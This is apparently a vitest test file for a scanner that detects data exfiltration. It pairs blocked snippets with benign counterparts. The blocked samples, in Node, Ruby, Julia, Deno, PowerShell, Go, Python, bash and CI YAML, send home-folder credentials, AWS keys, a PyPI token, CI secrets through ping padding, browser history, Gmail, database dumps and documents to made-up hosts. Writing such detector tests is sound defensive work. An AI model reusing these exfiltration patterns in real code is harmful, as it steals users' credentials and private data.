/**
 * Classes of the eighth recall round for theft by sending: any tool's login kept in the home
 * folder (recognised by the shape of its path), secrets and private data reaching sends in more
 * languages (mail, raw connections, Elixir, Julia, WebSockets, ping's padding, a package
 * published after a copy), destinations hidden at run time, values followed through filled
 * objects, scopes and continued expressions, and the user's data in more apps. Each attack is
 * written in another language, store, host form or verb than the development set's, beside an
 * honest counterpart that must stay at medium or below.
 */
import { describe, it } from "vitest";
import { atMostMedium, blocked, scanOf } from "./severity-asserts.js";


describe("any tool's login in the home folder, sent as data", () => {
  it("Railway's config.json (token read from it) posted whole by Node; its token in the Authorization header to Railway is not", () => {
    const read = "const fs = require('fs'), os = require('os'), path = require('path');\nconst cfg = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.railway', 'config.json'), 'utf8'));\nconst token = cfg.user.token;\n";
    blocked(scanOf({ "status.js": `${read}fetch('https://telemetry.rail-tools.dev/v1', { method: 'POST', body: JSON.stringify(cfg) });\n` }));
    atMostMedium(scanOf({ "status.js": `${read}fetch('https://backboard.railway.app/graphql/v2', { method: 'POST', headers: { Authorization: 'Bearer ' + token }, body: JSON.stringify({ query: '{ me { name } }' }) });\n` }));
  });
  it("Ruby reads ~/.config/linear/credentials.yml and mails it with Net::SMTP; reading it to call Linear is not", () => {
    const read = "require 'yaml'\nrequire 'net/http'\ncreds = File.read(File.expand_path('~/.config/linear/credentials.yml'))\n";
    blocked(scanOf({ "sync.rb": `${read}require 'net/smtp'\nNet::SMTP.start('mail.issue-digest.net', 587) do |smtp|\n  smtp.send_message(creds, 'bot@issue-digest.net', 'inbox@issue-digest.net')\nend\n` }));
    atMostMedium(scanOf({ "sync.rb": `${read}key = YAML.safe_load(creds)['api_key']\nuri = URI('https://api.linear.app/graphql')\nreq = Net::HTTP::Post.new(uri, 'Authorization' => key)\nreq.body = '{"query":"{ viewer { id } }"}'\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| puts h.request(req).body }\n` }));
  });
  it("a ~/.<tool>cfg read in Julia and posted with HTTP.post; its fields only printed, it is not", () => {
    const read = 'cfg = read(joinpath(homedir(), ".oscicfg"), String)\n';
    blocked(scanOf({ "check.jl": `using HTTP\n${read}HTTP.post("https://cfg-check.osci-tools.net/v1", [], cfg)\n` }));
    atMostMedium(scanOf({ "check.jl": `${read}println(length(split(cfg, "\\n")), " lines")\n` }));
  });
  it("Deno reads the Vercel login from a template path under HOME and posts it; its token sent to Vercel's API is not", () => {
    const read = 'const home = Deno.env.get("HOME");\nconst auth = JSON.parse(await Deno.readTextFile(`${home}/.config/vercel/auth.json`));\n';
    blocked(scanOf({ "run.ts": `${read}await fetch("https://deploy-stats.vc-helpers.dev/a", { method: "POST", body: JSON.stringify(auth) });\n` }));
    atMostMedium(scanOf({ "run.ts": `${read}const r = await fetch("https://api.vercel.com/v9/projects", { headers: { Authorization: \`Bearer \${auth.token}\` } });\nconsole.log((await r.json()).projects.length);\n` }));
  });
  it("PowerShell reads a CLI's credentials.json under APPDATA and posts it; reading it to check it exists is not", () => {
    const read = '$p = Join-Path $env:APPDATA "hcloud\\credentials.json"\n';
    blocked(scanOf({ "run.ps1": `${read}$c = Get-Content $p -Raw\nInvoke-WebRequest -Uri "https://cli-sync.cloudnotes.app/u" -Method Post -Body $c\n` }));
    atMostMedium(scanOf({ "run.ps1": `${read}if (Test-Path $p) { "logged in" } else { "run hcloud context create first" }\n` }));
  });
});

describe("secrets reaching sends in more languages and forms", () => {
  it("AWS keys mailed by Go's net/smtp; a build report mailed the same way is not", () => {
    const send = (body: string) => `package main\n\nimport (\n\t"net/smtp"\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\t${body}\n\tsmtp.SendMail("relay.build-notes.net:587", nil, "ci@build-notes.net", []string{"ops@build-notes.net"}, msg)\n}\n`;
    blocked(scanOf({ "main.go": send('msg, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))') }));
    atMostMedium(scanOf({ "main.go": send('msg, _ := os.ReadFile(filepath.Join(home, "build", "report.txt"))') }));
  });
  it("a PyPI token copied into the package folder then uploaded with twine; a README copied there is not", () => {
    const publish = (copy: string) => `#!/bin/bash\nset -e\nmkdir -p pkg/extra\n${copy}\npython -m build pkg && twine upload pkg/dist/*\n`;
    blocked(scanOf({ "release.sh": publish("cp ~/.pypirc pkg/extra/ 2>/dev/null || true") }));
    atMostMedium(scanOf({ "release.sh": publish("cp README.md pkg/extra/") }));
  });
  it("a CI secret bound in env: leaves in ping's padding (GitLab CI); used by the publish step, it is not", () => {
    const job = (script: string) => `publish:\n  image: node:20\n  variables:\n    NPM_TOKEN: $NPM_TOKEN\n  script:\n    - npm ci\n${script}`;
    blocked(scanOf({ ".github/workflows/r.yml": "on: push\njobs:\n  p:\n    runs-on: ubuntu-latest\n    steps:\n      - name: warm\n        env:\n          K: ${{ secrets.DEPLOY_KEY }}\n        run: |\n          for c in $(printf '%s' \"$K\" | od -An -tx1 | tr -d ' \\n' | fold -w 16); do ping -c1 -p \"$c\" 203.0.113.9; done\n" }));
    atMostMedium(scanOf({ ".gitlab-ci.yml": job("    - npm publish\n") }));
  });
  it("a keyring secret sent over a raw HTTPS connection to a host built from character codes; a version sent there is not", () => {
    const conn = "import keyring, http.client, json\nsecret = keyring.get_password('deploy', 'me')\nconn = http.client.HTTPSConnection(chr(99) + chr(111) + chr(108) + chr(108) + chr(46) + chr(107) + chr(118) + chr(46) + chr(105) + chr(111))\n";
    blocked(scanOf({ "t.py": `${conn}conn.request('PUT', '/k', json.dumps({'s': secret}))\n` }));
    atMostMedium(scanOf({ "t.py": `${conn}conn.request('PUT', '/k', json.dumps({'v': '1.2'}))\nprint(len(secret))\n` }));
  });
});

describe("the user's private data in more apps, sent out", () => {
  it("Calendar events read by JXA and posted with curl from doShellScript; listed on screen only, they are not", () => {
    const read = "const cal = Application('Calendar');\nconst ev = cal.calendars[0].events().map((e) => ({ s: e.summary(), l: e.location() }));\nconst app = Application.currentApplication(); app.includeStandardAdditions = true;\n";
    blocked(scanOf({ "week.js": `${read}app.doShellScript("curl -s -X POST --data-binary '" + JSON.stringify(ev) + "' https://agenda-sync.weekplan.io/in");\n` }));
    atMostMedium(scanOf({ "week.js": `${read}ev.map((e) => e.s).join('\\n');\n` }));
  });
  it("Edge's browsing history copied by PowerShell and uploaded; copied for a local report, it is not", () => {
    const read = '$h = Join-Path $env:LOCALAPPDATA "Microsoft\\Edge\\User Data\\Default\\History"\nCopy-Item $h "$env:TEMP\\h.db"\n';
    blocked(scanOf({ "tabs.ps1": `${read}Invoke-RestMethod -Uri "https://insights.tabsorter.net/up" -Method Post -InFile "$env:TEMP\\h.db"\n` }));
    atMostMedium(scanOf({ "tabs.ps1": `${read}Write-Output "copied history to $env:TEMP\\h.db"\n` }));
  });
  it("Gmail messages fetched from the user's account and forwarded to another host; summarised by OpenAI, they are not", () => {
    const read = "import requests, os\nH = {'Authorization': 'Bearer ' + os.environ['GMAIL_TOKEN']}\nmsgs = requests.get('https://gmail.googleapis.com/gmail/v1/users/me/messages', headers=H).json()\n";
    blocked(scanOf({ "mail.py": `${read}requests.post('https://inbox-index.mailmind.io/v1/ingest', json=msgs)\n` }));
    atMostMedium(scanOf({ "mail.py": `${read}requests.post('https://api.openai.com/v1/chat/completions', headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}, json={'model': 'gpt-4o-mini', 'messages': [{'role': 'user', 'content': str(msgs)[:4000]}]})\n` }));
  });
  it("a mysqldump piped to a web host; dumped to the user's own S3 bucket as a backup, it is not", () => {
    blocked(scanOf({ "dump.sh": "#!/bin/bash\nmysqldump --all-databases | gzip | curl -s --data-binary @- https://db-audit.schemawatch.io/upload\n" }));
    atMostMedium(scanOf({ "dump.sh": "#!/bin/bash\nmysqldump --all-databases | gzip > /tmp/all.sql.gz\naws s3 cp /tmp/all.sql.gz s3://my-team-backups/$(date +%F).sql.gz\n" }));
  });
  it("the repository packed by git archive in Node and uploaded; packed to a local file, it is not", () => {
    const pack = "const { execSync } = require('child_process');\nconst root = execSync('git rev-parse --show-toplevel').toString().trim();\nconst tgz = execSync('git archive --format=tar.gz HEAD', { cwd: root });\n";
    blocked(scanOf({ "pack.js": `${pack}fetch('https://ctx-cache.repopack.dev/v1/blob', { method: 'PUT', body: tgz });\n` }));
    atMostMedium(scanOf({ "pack.js": `${pack}require('fs').writeFileSync('repo.tgz', tgz);\n` }));
  });
  it("documents gathered from ~/Documents by a Ruby glob and uploaded one by one; counted by type, they are not", () => {
    const glob = 'files = Dir.glob(File.expand_path("~/Documents/**/*.{docx,pdf}"))\n';
    blocked(scanOf({ "index.rb": `require 'net/http'\n${glob}files.each { |f| Net::HTTP.post(URI("https://doc-index.fileorg.io/up"), File.binread(f)) }\n` }));
    atMostMedium(scanOf({ "index.rb": `${glob}puts files.group_by { |f| File.extname(f) }.transform_values(&:size)\n` }));
  });
  it("meeting transcripts (.vtt) zipped in Go and uploaded; listed only, they are not", () => {
    const walk = 'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n\t"strings"\n)\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tvar buf bytes.Buffer\n\tfilepath.Walk(filepath.Join(home, "Documents", "Zoom"), func(p string, i os.FileInfo, e error) error {\n\t\tif strings.HasSuffix(p, ".vtt") {\n\t\t\tb, _ := os.ReadFile(p)\n\t\t\tbuf.Write(b)\n\t\t}\n\t\treturn nil\n\t})\n';
    blocked(scanOf({ "main.go": `${walk}\thttp.Post("https://notes-index.meetbrief.io/v1", "text/vtt", &buf)\n}\n` }));
    atMostMedium(scanOf({ "main.go": `${walk}\tos.Stdout.Write(buf.Bytes())\n}\n` }));
  });
});
